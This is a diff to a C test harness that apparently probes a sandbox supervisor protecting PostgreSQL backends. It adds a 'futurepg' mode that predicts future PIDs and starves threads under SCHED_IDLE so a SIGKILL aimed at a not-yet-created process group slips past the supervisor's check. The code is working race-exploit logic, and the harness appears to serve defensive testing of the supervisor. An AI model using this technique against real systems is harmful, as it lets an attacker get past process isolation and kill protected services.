@@ -25,6 +25,12 @@
  *     O_ASYNC and one byte from the peer then send SIGIO: crash-restart.
  *     Same window as R1-5, which the kill path now closes with ESRCH.
  *
+ *   r2 futurepg SOCKET K ROUNDS
+ *     The same with kill(-(ns_last_pid+1+i), SIGKILL): a process group that
+ *     does not exist yet has no members, the sweep passes it (CONTINUE),
+ *     and each new backend leads its own group (setsid) by the time the
+ *     starved kill lands.
+ *
  *   r2 exitkill PID
  *     PTRACE_SEIZE with PTRACE_O_EXITKILL (attaching is allowed with a
  *     warning), then exit: the kernel SIGKILLs the tracee.  No notified
@@ -154,6 +160,7 @@ static pid_t want[MAXK];
 static int sv[MAXK][2];
 static volatile long ret[MAXK];
 static pid_t setter_tid[MAXK];
+static int group_kill;	/* futurepg: kill(-pid, SIGKILL) instead of F_SETOWN */
 
 /* 'S' while the supervisor has not answered, 'R' answered and starving */
 static char tstate(pid_t tid)
@@ -194,7 +201,10 @@ static void *setter(void *p)
 	while (!atomic_load(&go))
 		usleep(1000);
 	sched_setscheduler(0, SCHED_IDLE, &sp);
-	ret[i] = syscall(SYS_fcntl, sv[i][0], F_SETOWN, want[i]) < 0 ? -errno : 0;
+	if (group_kill)
+		ret[i] = syscall(SYS_kill, -want[i], SIGKILL) < 0 ? -errno : 0;
+	else
+		ret[i] = syscall(SYS_fcntl, sv[i][0], F_SETOWN, want[i]) < 0 ? -errno : 0;
 	return NULL;
 }
 
@@ -291,6 +301,18 @@ static int futureown_round(const char *sockpath, int k)
 				(void)!write(sv[i][1], "y", 1);
 		usleep(300000);
 	}
+	if (group_kill) {
+		for (int i = 0; i < k; i++)
+			hits += ret[i] == 0;
+		printf("futurepg: pids %ld..%ld, kill(-pid, SIGKILL) ok %d of %d\n", cur + 1, cur + k,
+		       hits, k);
+		for (int i = 0; i < k; i++) {
+			close(socks[i]);
+			close(sv[i][0]);
+			close(sv[i][1]);
+		}
+		return hits;
+	}
 	printf("futureown: pids %ld..%ld, F_SETOWN ok %d of %d, owners now postgres %d\n",
 	       cur + 1, cur + k, ok, k, hits);
 	usleep(200000);
@@ -319,7 +341,7 @@ static int futureown(const char *sockpath, int k, int rounds)
 	atomic_store(&hog_quit, 1);
 	for (int i = 0; i < 16; i++)
 		pthread_join(hogs[i], NULL);
-	printf("futureown: %s\n", hit ? "a backend got SIGIO" : "no hit");
+	printf("%s: %s\n", group_kill ? "futurepg" : "futureown", hit ? (group_kill ? "a starved group kill landed" : "a backend got SIGIO") : "no hit");
 	return !hit;
 }
 
@@ -334,6 +356,10 @@ int main(int argc, char **argv)
 				 0x100000 /* PTRACE_O_EXITKILL */);
 		printf("exitkill: seize %s\n", r == 0 ? "ok" : strerror(errno));
 		return 0;	/* exit: the tracee gets SIGKILL */
+	}
+	if (argc == 5 && !strcmp(argv[1], "futurepg")) {
+		group_kill = 1;
+		return futureown(argv[2], atoi(argv[3]), atoi(argv[4]));
 	}
 	if (argc == 5 && !strcmp(argv[1], "futureown"))
 		return futureown(argv[2], atoi(argv[3]), atoi(argv[4]));
